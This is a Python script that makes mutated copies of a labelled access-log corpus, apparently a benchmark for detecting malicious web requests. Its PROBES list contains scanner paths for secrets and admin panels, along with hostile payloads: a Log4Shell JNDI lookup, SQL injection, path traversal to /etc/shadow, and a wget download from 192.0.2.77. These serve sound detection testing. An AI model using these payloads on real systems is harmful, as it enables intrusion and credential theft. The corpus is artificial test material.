#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Mutated copies of the log corpus, so that no filter can be fitted to its files.

    mutate.py SEED NAME.out NAME.tsv OUTDIR

writes OUTDIR/NAME.out and OUTDIR/NAME.tsv: other client addresses (IPv4, IPv6, mapped and
link-local ones, the same client always becomes the same address), another time, other paths of
the same kind, other methods and words, colours taken away, added or put in the other order, and
statuses as a number or as the name that some Python versions print.  All other bytes stay.
The same seed gives the same copy.  Ends with 1 and a message when labels and lines disagree.
"""
import datetime
import os
import random
import re
import sys

PROBES = """
/.env.staging /.env.save /backend/.env /laravel/.env /core/.env.example /.env_1 /prod.env
/.git/logs/HEAD /.git/refs/heads/master /.gitlab-ci.yml /.svn/wc.db /.hg/store/00manifest.i
/.ssh/authorized_keys /.s3cfg /.netrc /.pgpass /.terraform/terraform.tfstate /.circleci/config.yml
/.vscode/launch.json /.config/gcloud/credentials.db /.bashrc /.viminfo /.dockerenv /.boto
/wp-content/debug.log /wp-json/oembed/1.0/embed /wp-cron.php /wp-trackback.php /wp2/wp-login.php
/wordpress/wp-includes/css/buttons.css /site/wp-content/themes/ /wp-config.php.swp /xmlrpc.php
/pma/index.php /phpmyadmin4/ /PhpMyAdmin/scripts/setup.php /sqlweb/index.php /adminer/
/mysql-admin/ /phppgadmin/ /typo3/phpmyadmin/index.php /tools/phpMyAdmin/ /_phpinfo.php
/cgi-bin/bash /cgi-bin/printenv.pl /cgi-bin/nobody/Search.cgi /cgi-bin/jarrewrite.sh
/cgi-bin/account_mgr.cgi /cgi-mod/view_help.cgi /scgi-bin/php /login.cgi?cli=aa
/laravel/vendor/phpunit/phpunit/phpunit.xml /yii/vendor/phpunit/src/Util/eval-stdin.php
/actuator/heapdump /actuator/prometheus /actuator/loggers /solr/admin/collections?action=LIST
/jolokia/exec /host-manager/text/list /manager/text/list /struts2-blank/ /axis2-admin/login.jsp
/console/css/%252e%252e%252fconsole.portal /uddiexplorer/SearchPublicRegistries.jsp
/jenkins/script /jmx-console/HtmlAdaptor /web-console/Invoker.jsp /nacos/v1/cs/configs
/druid/indexer/v1/sampler /geoserver/ows?service=wfs /struts/webconsole.html /WEB-INF/web.xml
/boaform/formLogin /GponForm/diag_Form?style/ /goform/set_LimitClient_cfg /HNAP1/GetDeviceInfo
/setup.cgi?todo=syscmd /tmUnblock.cgi /currentsetting.htm /luci/;stok=/locale
/SDK/webLanguage/x /ISAPI/System/deviceInfo /onvif-http/snapshot /evox/about /sdk/vimService
/owa/auth/x.js /ecp/y.js /autodiscover/autodiscover.xml /ews/Exchange.asmx /rdweb/Pages/en-US/
/autodiscover/autodiscover.json /exchweb/bin/auth/owalogon.asp /lync/autodiscover
/remote/logincheck /dana-na/nc/nc_gina_ver.txt /+CSCOE+/saml/sp/login /+webvpn+/index.html
/global-protect/prelogin.esp /sslvpn/portal.html /vpn/js/rdx/core.js /tmui/login.jsp/..;/x
/mgmt/shared/authn/login /dana-cached/hc/HostCheckerInstaller.osx /ssl-vpn/login.esp
/server-status?auto /server-info /nginx_status /_cat/nodes /_cluster/health /_all_dbs
/v1.41/images/json /v2/_catalog /_ignition/health-check /telescope/api /_profiler/open?file=app.py
/debug/pprof/heap /swagger-ui/index.html /v3/api-docs /graphiql /sitecore/login/x.aspx
/umbraco/ /joomla/ /drupal/ /magento/ /bitrix/ /CFIDE/componentutils/ /Telerik.Web.UI.DialogHandler
/index.php?lang=../../../../tmp/x /default.asp /upload.aspx /servlet/x.jsp /Login.do /main.action
/cmd.jsp /up.php7 /c99.php /alfacgiapi/perl.alfa /r57.php?x /test.cfm /service.asmx?wsdl
/backup.tgz /backup_2023.tar.gz /www.tar.gz /web.rar /htdocs.zip /db_backup.sql.gz /dump.sql
/mysql.sql /localhost.sql /database.bak /index.bak /app.py.bak /config.py~ /main.swp /old.tar
/public_html.zip /example.org.zip /data.sqlite3 /users.mdb /access.log /storage/logs/error.log
/server.key /ssl/private.pem /id_ed25519 /keystore.jks /credentials.txt /passwords.txt /secrets.json
/config.yaml /config.ini /settings.yml /app/config/parameters.yml /configuration.xml
/application.yml /docker-compose.yaml /composer.json /package-lock.json /web.config
/appsettings.Production.json /aws-credentials.json /firebase-config.json /tomcat-users.xml /php.ini
/admin.html /admin/index.php /administrator/ /adminpanel/ /admin_area/ /webadmin/ /Admin/Login
/user/login.html /users/login /signin /auth/signin /account/login /login.jsp /log-in /logon.htm
/cpanel/ /console/ /manager/ /panel/ /siteadmin /_admin/ /admin1 /member/login.aspx /wp-signup.php
/static/../../etc/shadow /..%2f..%2fetc/hosts /%2e%2e%2f%2e%2e%2fboot.ini /assets/..;/..;/x
/cgi-bin/.%2e/%2e%2e/bin/sh /file?name=../../../../proc/self/environ /a?x=/etc/passwd
/favicon.ico?v=.git /index.html?p=.htpasswd /style.css?f=.aws/credentials /robots.txt?f=.ssh/id_rsa
/?q=${jndi:ldap://192.0.2.77/a} /x?id=1+union+select+2 /shell?cd+/tmp;wget+http://192.0.2.77/m
""".split()

LOGINS = """
/login /auth/token /session /users/sign_in /api/v2/authenticate /oauth/token /account/signin
/rest/auth/login /api/session /admin/login
""".split()
GOOD = ("/hello_world", "/hello_flask", "/totals", "/moved", "/same")
PAGES = """
/weather /orders/list /api/v1/items /reports/daily /catalog /basket /api/stock /members /news
/timeline /files/list /map /calendar/2024 /api/quote /blog/first-steps /ping /reviews
""".split()
METHODS = "BAR XYZZY TRACK DEBUG INDEX QUUX SEARCHX PROPFIND MKCOL LOCK SPAM".split()
WORDS = "quit root hello enable status AT xyz 0000 help? USER test EHLO shell system ls".split()

NAMES = {
    400: "BAD_REQUEST",
    414: "REQUEST_URI_TOO_LONG",
    431: "REQUEST_HEADER_FIELDS_TOO_LARGE",
    505: "HTTP_VERSION_NOT_SUPPORTED",
}
VICTIM = b"10.77.9.9"
SGR = rb"(?:\x1b?\[\d[\d;]*m)"
PREFIX = re.compile(rb"([0-9a-fA-F:.%]\S*)( - - \[)(\d\d/\w{3}/\d{4} \d\d:\d\d:\d\d)(\] )")
ACCESS = re.compile(rb'"(' + SGR + rb'*)(.*?)(\x1b?\[0m)?" (\d{3}|HTTPStatus\.[A-Z_]+) -\Z', re.S)
WELL_FORMED = re.compile(rb"([!-~]+) (/[^ ]*) (HTTP/[01]\.\d)\Z")
APP_TIME = re.compile(rb"\[(\d{4}-\d\d-\d\d \d\d:\d\d:\d\d)(,\d{3}\] )")
CLF = "%d/%b/%Y %H:%M:%S"
ISO = "%Y-%m-%d %H:%M:%S"


class Mutation:
    """The choices made for one file."""

    def __init__(self, rng):
        self.rng = rng
        self.addresses = {}
        self.used = set()
        self.victim = self.ipv4().encode()
        self.pages = dict(zip(GOOD, rng.sample(PAGES, len(GOOD))))
        self.colour = rng.choice(("keep", "plain", "colour-first", "bold-first"))
        self.status = rng.choice(("keep", "number", "name"))
        self.start = None
        day = rng.randrange(0, 3800)
        self.day0 = datetime.datetime(2015, 9, 1) + datetime.timedelta(days=day)
        self.words = {}

    def ipv4(self):
        while True:
            net = self.rng.choice(("192.0.2.", "198.51.100.", "203.0.113."))
            a = net + str(self.rng.randrange(1, 255))
            if a not in self.used:
                self.used.add(a)
                return a

    def address(self, old):
        """What the log shows and what a label says for a client."""
        if old not in self.addresses:
            kind = self.rng.choice("444666mz")
            if kind == "4":
                new = self.ipv4()
                self.addresses[old] = (new, new)
            elif kind == "m":
                new = self.ipv4()
                self.addresses[old] = ("::ffff:" + new, new)
            else:
                n = len(self.addresses) + 1
                host = "%x" % self.rng.randrange(1, 0xFFFF)
                if kind == "z" and not any(s.startswith("fe80") for s, _ in self.addresses.values()):
                    new = "fe80::" + host
                    self.addresses[old] = (new + "%eth0", new)
                else:
                    form = self.rng.choice(("2001:db8:%x::%s", "2001:db8:0:%x:a:b:c:%s"))
                    new = form % (n, host)
                    self.addresses[old] = (new, new)
        return self.addresses[old]

    def time(self, text, form):
        t = datetime.datetime.strptime(text.decode(), form)
        if self.start is None:
            self.start = t.replace(hour=0, minute=0, second=0)
        return (self.day0 + (t - self.start)).strftime(form).encode()

    def word(self, old, note):
        if (old, note) not in self.words:
            free = [w for w in WORDS if w not in self.words.values()]
            self.words[old, note] = self.rng.choice(free)
        return self.words[old, note]

    def target(self, method, path, row):
        """Method and target of a well-formed request of this class."""
        cls, note = row[1], row[5]
        if cls == "probe_404" and not note.startswith("forge"):
            path = self.rng.choice(PROBES)
        elif cls == "auth_bruteforce":
            path = self.rng.choice(LOGINS)
        elif cls == "unsupported_method":
            method = self.rng.choice(METHODS)
        for old, new in self.pages.items():
            if path == old or path.startswith(old + "?"):
                path = new + path[len(old):]
                break
        return method, path

    def code(self, text):
        if text.startswith(b"HTTPStatus.") and self.status == "number":
            for number, name in NAMES.items():
                if text == b"HTTPStatus." + name.encode():
                    return str(number).encode()
        return text

    def sgr(self, code, esc):
        """The sequences before a request with this status (a name begins with H)."""
        if code.startswith(b"H") or code[:1] == b"5":
            parts = ["35", "1"]
        elif code[:1] == b"1":
            parts = ["1"]
        elif code == b"304":
            parts = ["36"]
        elif code == b"404":
            parts = ["33"]
        elif code[:1] == b"3":
            parts = ["32"]
        elif code[:1] == b"4":
            parts = ["31", "1"]
        else:
            parts = ["37"]
        if self.colour == "bold-first":
            parts.reverse()
        return b"".join(esc + b"[%sm" % p.encode() for p in parts)

    def body(self, body, row, paired):
        cls, note = row[1], row[5]
        if note in ("123", "ccc", "help") and cls == "bad_request":
            old = {"help": b"HELP"}.get(note, note.encode())
            return self.access(body.replace(old, self.word(old, note).encode()), row, paired)
        return self.access(body, row, paired)

    def access(self, body, row, paired):
        m = ACCESS.match(body)
        if not m:
            return body
        colour, request, reset, code = m.groups()
        if not colour and reset:
            request, reset = request + reset, None
        r = WELL_FORMED.match(request)
        if r and row[1] != "forged" and not paired:
            method, path = self.target(r[1].decode(), r[2].decode("latin-1"), row)
            request = b"%s %s %s" % (method.encode(), path.encode("latin-1"), r[3])
        code = self.code(code)
        if paired and self.status == "name" and code.isdigit() and int(code) in NAMES:
            code = b"HTTPStatus." + NAMES[int(code)].encode()
        if self.colour == "plain":
            colour = reset = b""
        elif self.colour != "keep":
            esc = b"" if colour and b"\x1b" not in colour else b"\x1b"
            colour, reset = self.sgr(code, esc), esc + b"[0m"
        return b'"%s%s%s" %s -' % (colour, request, reset or b"", code)

    def line(self, line, row, paired):
        line = line.replace(VICTIM, self.victim)
        m = PREFIX.match(line)
        if not m:
            m = APP_TIME.match(line)
            return b"[" + self.time(m[1], ISO) + m[2] + line[m.end():] if m else line
        if row[1] == "forged" and not row[5].endswith("xff"):
            return line
        addr, dash, date, end = m.groups()
        if addr != self.victim:
            addr = self.address(addr.decode())[0].encode()
        body = self.body(line[m.end():], row, paired)
        return addr + dash + self.time(date, CLF) + end + body

    def label(self, name):
        if name == VICTIM.decode():
            return self.victim.decode()
        return name if name == "-" else self.address(name)[1]


def check(lines, rows):
    """The same rule as the corpus has: a labelled client stands in its line, at its start."""
    for line, row in zip(lines, rows):
        if row[2] == "-":
            continue
        start = row[2].encode()
        if not line.startswith((start + b" ", start + b"%", b"::ffff:" + start + b" ")):
            return "row %s: the line does not name %s" % (row[0], row[2])
    return None if len(lines) == len(rows) else "%d labels, %d lines" % (len(rows), len(lines))


def main():
    if len(sys.argv) != 5:
        sys.exit("usage: mutate.py SEED NAME.out NAME.tsv OUTDIR")
    seed, log, labels, outdir = sys.argv[1:]
    name = os.path.basename(log)[:-4]
    with open(log, "rb") as f:
        data = f.read()
    lines = data.split(b"\n")
    tail = lines.pop()
    with open(labels, encoding="utf-8") as f:
        head, *rest = f.read().split("\n")
    rows = [r.split("\t") for r in rest if r]
    if tail or len(lines) != len(rows):
        sys.exit("%s: labels and lines do not fit" % name)
    size = {}
    for row in rows:
        size[row[4]] = size.get(row[4], 0) + (row[4] != "-" and row[1] not in ("none", "burst"))
    mut = Mutation(random.Random("%s %s" % (seed, name)))
    lines = [mut.line(l, r, size[r[4]] > 1) for l, r in zip(lines, rows)]
    rows = [[r[0], r[1], mut.label(r[2]), mut.label(r[3])] + r[4:] for r in rows]
    wrong = check(lines, rows)
    if wrong:
        sys.exit("%s: %s" % (name, wrong))
    os.makedirs(outdir, exist_ok=True)
    with open(os.path.join(outdir, name + ".out"), "wb") as f:
        f.write(b"".join(l + b"\n" for l in lines))
    with open(os.path.join(outdir, name + ".tsv"), "w", encoding="utf-8") as f:
        f.write("\n".join([head] + ["\t".join(r) for r in rows]) + "\n")


if __name__ == "__main__":
    main()
